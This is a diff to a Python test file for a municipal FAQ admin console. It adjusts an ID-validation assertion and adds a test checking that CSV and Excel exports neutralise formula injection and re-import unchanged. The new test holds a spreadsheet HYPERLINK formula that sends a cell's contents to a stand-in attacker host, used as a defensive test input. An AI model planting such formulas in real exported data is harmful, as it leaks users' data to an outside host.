@@ -61,7 +61,7 @@ def test_invalid_form_comes_back_with_messages(client_for, admin_app) -> None:
     response = _create(editor, answer="あ" * 5001, url="ftp://x", id="Bad ID")
     assert response.status_code == 400
     assert "5,000 文字まで" in response.text and "http:// または https://" in response.text
-    assert "半角英小文字" in response.text
+    assert "空白を「-」に" in response.text  # "Bad ID": ids are the city's own, but without spaces
     assert "ftp://x" in response.text  # what was typed is kept
     assert _create(editor, id="juminhyo").status_code == 409  # taken id
     with services_of(admin_app).factory() as session:
@@ -227,3 +227,32 @@ def test_editing_in_the_console_keeps_the_answer_translations(client_for, admin_
     with services_of(admin_app).factory() as session:
         saved = faq_repo.get_entry(session, "juminhyo")
     assert saved.answer == "市民課の窓口で取れます。" and saved.translations == {"zh": "在市民课办理。"}
+
+
+def test_export_holds_no_formula_and_imports_back_unchanged(client_for, admin_app) -> None:
+    """Issue 17, item 1: a list answer ("- …") and a resident's question attached as an alternative are text in
+    both exports, and each export imports back to the same entry."""
+    attack = '=HYPERLINK("https://evil.example/?"&A3,"詳細")'
+    with transaction(services_of(admin_app).factory) as session:
+        entry = faq_repo.get_entry(session, "sodai-gomi")
+        listed = replace(entry, answer="- 電話で申し込む\n- 券を貼って出す", alt_questions=[attack])
+        faq_repo.save_entry(session, listed, actor="test")
+        listed = faq_repo.get_entry(session, "sodai-gomi")
+    editor = client_for("editor")
+    text = editor.get("/admin/faq/io/export.csv").content.decode("utf-8-sig")
+    row = next(r for r in csv.DictReader(io.StringIO(text)) if r["id"] == "sodai-gomi")
+    assert row["answer"].startswith("'- 電話") and row["alt_questions"] == "'" + attack
+    xlsx = editor.get("/admin/faq/io/export.xlsx").content
+    sheet = openpyxl.load_workbook(io.BytesIO(xlsx)).active
+    assert all(cell.data_type == "s" for r in sheet.iter_rows() for cell in r if cell.value)
+    assert not [c.value for r in sheet.iter_rows() for c in r if str(c.value or "")[:1] in set("=+-@")]
+    for name, content in (("faq.csv", text.encode("utf-8")), ("faq.xlsx", xlsx)):
+        imported = editor.post(
+            "/admin/faq/io/import",
+            data={"csrf_token": csrf_of(editor), "mode": "merge"},
+            files={"file": (name, content, "application/octet-stream")},
+        )
+        assert imported.status_code == 200, imported.text
+        with services_of(admin_app).factory() as session:
+            again = faq_repo.get_entry(session, "sodai-gomi")
+        assert (again.answer, again.alt_questions) == (listed.answer, listed.alt_questions), name
